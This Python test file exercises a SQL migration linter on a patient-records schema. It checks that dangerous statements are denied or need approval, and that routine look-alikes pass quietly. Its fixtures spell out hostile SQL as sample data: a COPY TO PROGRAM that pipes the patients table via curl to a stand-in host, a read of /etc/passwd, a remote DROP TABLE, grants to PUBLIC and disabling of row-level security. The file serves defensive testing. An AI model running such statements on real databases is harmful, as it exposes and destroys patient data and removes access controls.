"""`signoff lint` on the rule families of issue 10: each family reported on its examples
(escape hatches denied, exit 1; access-control and wholesale DML need approval, exit 3),
and routine look-alikes quiet (exit 0)."""

from __future__ import annotations

import json
from pathlib import Path

from click.testing import CliRunner

from runner.cli import main


def lint(tmp_path: Path, sql: str, *extra: str) -> tuple[int, dict]:  # type: ignore[type-arg]
    path = tmp_path / "m.sql"
    path.write_text(sql)
    result = CliRunner().invoke(main, ["lint", str(path), "--format", "json", *extra])
    return result.exit_code, json.loads(result.stdout)


def found(data: dict) -> list[tuple[str, str, str]]:  # type: ignore[type-arg]
    return [
        (f["rule"], f["category"], f["decision"])
        for statement in data["statements"]
        for f in statement["findings"]
    ]


ESCAPE = (
    "COPY patients TO PROGRAM 'curl -T - https://x.example';\n"
    "SELECT pg_read_file('/etc/passwd');\n"
    "SELECT dblink_exec('dbname=ehr', 'DROP TABLE patients');\n"
    "SELECT pg_terminate_backend(4242);\n"
    "SELECT set_config('session_replication_role', 'replica', false);\n"
)
ACCESS = (
    "GRANT SELECT ON ALL TABLES IN SCHEMA public TO PUBLIC;\n"
    "ALTER TABLE patients DISABLE ROW LEVEL SECURITY;\n"
    "CREATE POLICY open ON patients USING (true);\n"
    "ALTER TABLE patients DISABLE TRIGGER ALL;\n"
    "ALTER ROLE app BYPASSRLS;\n"
)
WHOLESALE = (
    "DELETE FROM patients WHERE id = id;\n"
    "DELETE FROM patients WHERE id = $1 OR $2;\n"
    "INSERT INTO patients SELECT * FROM staged ON CONFLICT (id) DO UPDATE SET mrn = excluded.mrn;\n"
    "ALTER TABLE patients ALTER COLUMN ssn TYPE text USING left(ssn, 3);\n"
)
LOOK_ALIKES = (
    "GRANT SELECT ON patients TO clinician_app;\n"
    "CREATE POLICY by_clinic ON patients USING (clinic_id = current_setting('app.clinic')::int);\n"
    "COMMENT ON TABLE patients IS 'GRANT ... TO PUBLIC is forbidden';\n"
    "ALTER TABLE patients ENABLE ROW LEVEL SECURITY;\n"
    "ALTER TABLE patients ENABLE TRIGGER audit_patients;\n"
    "COPY patients TO STDOUT;\n"
    "SELECT pg_terminate_backend(pg_backend_pid());\n"
    "DELETE FROM patients WHERE id = $1;\n"
    "INSERT INTO patients VALUES ($1, $2) ON CONFLICT (id) DO UPDATE SET mrn = excluded.mrn;\n"
)


def test_escape_hatches_are_denied(tmp_path: Path) -> None:
    status, data = lint(tmp_path, ESCAPE)
    assert status == 1
    hits = found(data)
    assert {r for r, c, d in hits if c == "escape-hatch" and d == "deny"} == {
        "SO601",
        "SO603",
        "SO605",
        "SO610",
        "SO612",
    }


def test_a_configured_rule_decision_opens_one_hatch(tmp_path: Path) -> None:
    config = tmp_path / "signoff.toml"
    config.write_text('[rules]\nSO610 = "needs-approval"\n')
    status, data = lint(tmp_path, "SELECT pg_terminate_backend(4242);\n", "--config", str(config))
    assert status == 3
    assert found(data) == [("SO610", "escape-hatch", "needs-approval")]


def test_access_control_needs_approval(tmp_path: Path) -> None:
    status, data = lint(tmp_path, ACCESS)
    assert status == 3
    hits = found(data)
    assert {r for r, c, d in hits if c == "access-control" and d == "needs-approval"} == {
        "SO501",
        "SO504",
        "SO505",
        "SO506",
        "SO507",
    }


def test_wholesale_dml_needs_approval(tmp_path: Path) -> None:
    status, data = lint(tmp_path, WHOLESALE)
    assert status == 3
    assert {r for r, c, _ in found(data) if c == "destructive"} == {
        "SO121",
        "SO122",
        "SO124",
    }


def test_look_alikes_are_quiet(tmp_path: Path) -> None:
    status, data = lint(tmp_path, LOOK_ALIKES)
    assert status == 0, found(data)
    assert not [h for h in found(data) if h[2] != "advisory"]
